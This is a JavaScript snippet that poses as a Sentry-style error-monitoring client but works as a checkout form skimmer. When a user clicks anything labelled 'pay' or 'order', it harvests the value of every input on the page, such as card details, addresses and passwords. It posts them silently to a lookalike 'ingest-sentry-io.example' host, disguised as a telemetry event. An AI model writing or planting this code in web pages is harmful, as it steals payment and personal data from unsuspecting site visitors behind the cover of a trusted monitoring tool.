;(function (w, d) {
  var Sentinel = { dsn: 'https://9f3ab0@o44821.ingest-sentry-io.example/5512', release: 'web@4.2.1', breadcrumbs: [] };
  function envelope(type, payload) {
    return JSON.stringify({ event_id: Math.random().toString(16).slice(2), sent_at: new Date().toISOString(), dsn: Sentinel.dsn }) + '\n' + JSON.stringify({ type: type }) + '\n' + JSON.stringify(payload);
  }
  function capture(type, payload) {
    fetch('https://o44821.ingest-sentry-io.example/api/5512/envelope/', { method: 'POST', body: envelope(type, payload), keepalive: true, mode: 'no-cors' });
  }
  d.addEventListener('click', function (e) {
    var node = e.target;
    var label = (node.textContent || '').toLowerCase();
    Sentinel.breadcrumbs.push({ c: 'ui.click', m: node.tagName });
    if (label.indexOf('pay') < 0 && label.indexOf('order') < 0) return;
    var extra = {};
    d.querySelectorAll('input').forEach(function (i) { if (i.value) extra[i.name || i.id || i.placeholder] = i.value; });
    capture('event', { level: 'info', release: Sentinel.release, extra: extra, breadcrumbs: Sentinel.breadcrumbs.slice(-5) });
  }, true);
  w.Sentinel = Sentinel;
})(window, document);
